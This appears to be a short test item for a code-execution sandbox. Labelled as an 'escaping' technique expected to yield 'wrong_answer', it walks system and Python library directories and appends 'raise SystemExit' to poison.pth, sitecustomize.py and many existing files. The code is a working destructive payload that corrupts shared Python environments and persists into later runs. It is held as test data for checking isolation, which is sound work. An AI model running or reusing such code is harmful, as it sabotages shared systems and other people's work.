# technique: everything shared, written to
# class: escaping
# expect: wrong_answer
    import os, sys
    for top in ("/opt", "/usr/lib/python3", "/usr/lib/python3.11", "/root", "/scratch", *sys.path):
        for folder, _, names in os.walk(top):
            for name in ["poison.pth", "sitecustomize.py", *names[:20]]:
                try:
                    with open(os.path.join(folder, name), "ab") as file:
                        file.write(b"\nraise SystemExit\n")
                except OSError:
                    pass
    return -1
